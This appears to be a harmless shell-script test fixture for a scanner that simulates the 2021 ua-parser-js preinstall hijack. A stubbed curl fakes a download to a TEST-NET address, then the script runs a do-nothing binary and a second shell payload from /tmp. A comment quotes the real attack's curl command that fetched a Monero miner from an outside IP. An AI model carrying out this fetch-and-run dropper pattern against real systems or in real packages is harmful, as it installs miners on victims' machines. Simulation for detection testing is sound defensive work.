# Simulates the ua-parser-js 0.7.29 / 0.8.0 / 1.0.0 hijack (October 2021): its
# preinstall fetched a Monero miner with
#   curl http://159.148.186.228/download/jsextension -o jsextension
# (wget when curl failed), made it executable and started it.
# What this does instead, harmlessly: a fake "curl" shipped in fakebin/ (it
# never touches the network) "downloads" by copying /bin/true to
# /tmp/jsextension, which is then made executable and run (true does
# nothing). A second payload, a shell script, is written to /tmp/x and run
# the same way. The URL names a TEST-NET-2 address that is never contacted.
[ -f "$(dirname "$0")/armed" ] || { echo "attack-dropper: not armed by scanfarm's tests, doing nothing"; exit 0; }
chmod +x fakebin/curl
PATH="$PWD/fakebin:$PATH" curl -s http://198.51.100.77/download/jsextension -o /tmp/jsextension
chmod 0755 /tmp/jsextension
/tmp/jsextension -k --tls --rig-id q -o pool.invalid:443 && echo "attack-dropper: ELF payload ran"
printf '#!/bin/sh\necho "attack-dropper: script payload ran"\n' >/tmp/x
chmod 0755 /tmp/x
/tmp/x
exit 0
